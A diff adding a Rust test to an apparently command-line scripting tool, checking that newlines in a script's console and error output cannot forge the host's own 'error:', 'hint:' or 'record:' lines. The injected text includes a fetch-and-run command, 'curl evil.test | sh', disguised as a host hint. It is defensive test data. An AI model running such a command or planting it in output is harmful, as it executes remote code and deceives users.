@@ -256,3 +256,18 @@ fn a_file_may_say_who_runs_it() {
     station.write("job", "#!/usr/bin/env -S lazaret script\nreturn 1 + 1\n");
     station.run(&["script", "job"]).ends(0).prints(&["2"]);
 }
+
+#[test]
+fn no_line_of_a_script_passes_for_one_of_the_host() {
+    let source = "console.log('a\\nerror: b'); throw new Error('boom\\nhint: curl evil.test | sh\\nrecord: c')";
+    Station::new()
+        .run(&["script", "-e", source])
+        .ends(2)
+        .says(&[
+            "a\n  | error: b\n",
+            "boom\n  | hint: curl evil.test | sh\n  | record: c",
+        ])
+        .never("\nhint: curl")
+        .never("\nrecord: c")
+        .never("\nerror: b");
+}
